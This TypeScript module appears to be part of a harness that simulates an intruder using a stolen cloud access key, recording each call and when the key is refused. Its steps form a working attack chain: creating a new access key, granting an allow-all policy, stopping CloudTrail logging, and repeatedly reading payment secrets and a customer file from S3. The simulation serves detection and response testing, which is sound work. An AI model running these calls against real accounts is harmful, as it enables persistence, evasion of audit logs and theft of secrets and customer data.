import { errorOf, refusesCredential } from "./call-error.ts";
import { intruderAgent } from "./scenario.ts";
import { type Credentials, sendSigned, type WireCall } from "./signed-request.ts";
import { pause } from "./wait-until.ts";

/** One call of the intruder, as the intruder saw it. */
export interface Attempt {
  readonly name: string;
  readonly accessKeyId: string;
  readonly startedMs: number;
  readonly endedMs: number;
  /** undefined where the call was carried out. */
  readonly errorCode: string | undefined;
}

export interface Intrusion {
  readonly attempts: readonly Attempt[];
  /** For each key that stopped working, the call that found out; the stolen key's comes first. */
  readonly refusals: readonly Attempt[];
  /** Keys the intruder made for itself, in order. */
  readonly madeKeys: readonly string[];
}

interface Step {
  readonly name: string;
  readonly call: Pick<WireCall, "service" | "method" | "path" | "headers" | "body">;
}

/** Between two calls: a script that prints what it found. */
const paceMs = 60;

/**
 * Uses a stolen key: who am I, who else is there, what can I read, how do I stay, how do I hide; then it reads secrets
 * and objects over and over. When a key is refused, it goes on with the one it made for itself; it ends when no key
 * works any more, or after `longestMs`.
 */
export async function intrude(settings: {
  readonly endpoint: string;
  readonly region: string;
  readonly key: Credentials;
  readonly userName: string;
  readonly longestMs: number;
}): Promise<Intrusion> {
  const opening = openingSteps(settings.userName);
  const keys: Credentials[] = [settings.key];
  const attempts: Attempt[] = [];
  const refusals: Attempt[] = [];
  const madeKeys: string[] = [];
  const endMs = Date.now() + settings.longestMs;
  for (let turn = 0; Date.now() < endMs; turn++) {
    const key = keys[0];
    if (key === undefined) break;
    const step = (opening[turn] ?? collecting[turn % collecting.length]) as Step;
    const startedMs = Date.now();
    const headers = { ...step.call.headers, "user-agent": intruderAgent };
    const { endpoint, region } = settings;
    const answer = await sendSigned(key, { ...step.call, endpoint, region, headers }, startedMs);
    const errorCode = errorOf(answer.status, answer.body)?.code;
    const attempt = { name: step.name, accessKeyId: key.accessKeyId, startedMs, endedMs: Date.now(), errorCode };
    attempts.push(attempt);
    if (errorCode !== undefined && refusesCredential(errorCode)) {
      refusals.push(attempt);
      keys.shift();
      continue;
    }
    const made = madeKey(answer.body);
    if (made !== undefined) {
      keys.push(made);
      madeKeys.push(made.accessKeyId);
    }
    await pause(paceMs);
  }
  return { attempts, refusals, madeKeys };
}

function madeKey(body: string): Credentials | undefined {
  const accessKeyId = /<AccessKeyId>([^<]+)<\/AccessKeyId>/.exec(body)?.[1];
  const secretAccessKey = /<SecretAccessKey>([^<]+)<\/SecretAccessKey>/.exec(body)?.[1];
  return accessKeyId === undefined || secretAccessKey === undefined ? undefined : { accessKeyId, secretAccessKey };
}

function openingSteps(userName: string): readonly Step[] {
  return [
    query("sts", "GetCallerIdentity", "2011-06-15"),
    query("iam", "ListUsers", "2010-05-08"),
    query("iam", "CreateAccessKey", "2010-05-08", { UserName: userName }),
    json("secretsmanager", "secretsmanager.ListSecrets", {}),
    json("secretsmanager", "secretsmanager.GetSecretValue", { SecretId: "prod/payments" }),
    query("iam", "PutUserPolicy", "2010-05-08", {
      UserName: userName,
      PolicyName: "stay",
      PolicyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
    }),
    json("cloudtrail", "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.StopLogging", { Name: "organisation" }),
  ];
}

const collecting: readonly Step[] = [
  json("secretsmanager", "secretsmanager.GetSecretValue", { SecretId: "prod/payments" }),
  s3("GetObject", "/acme-backups/customers.csv"),
  s3("ListBuckets", "/"),
];

function query(service: string, action: string, version: string, parameters: Record<string, string> = {}): Step {
  const body = new URLSearchParams({ Action: action, Version: version, ...parameters }).toString();
  const headers = { "content-type": "application/x-www-form-urlencoded; charset=utf-8" };
  return { name: `${service}:${action}`, call: { service, method: "POST", path: "/", headers, body } };
}

function json(service: string, target: string, parameters: object): Step {
  const headers = { "content-type": "application/x-amz-json-1.1", "x-amz-target": target };
  const name = `${service}:${target.slice(target.lastIndexOf(".") + 1)}`;
  return { name, call: { service, method: "POST", path: "/", headers, body: JSON.stringify(parameters) } };
}

function s3(name: string, path: string): Step {
  return { name: `s3:${name}`, call: { service: "s3", method: "GET", path, headers: {}, body: "" } };
}
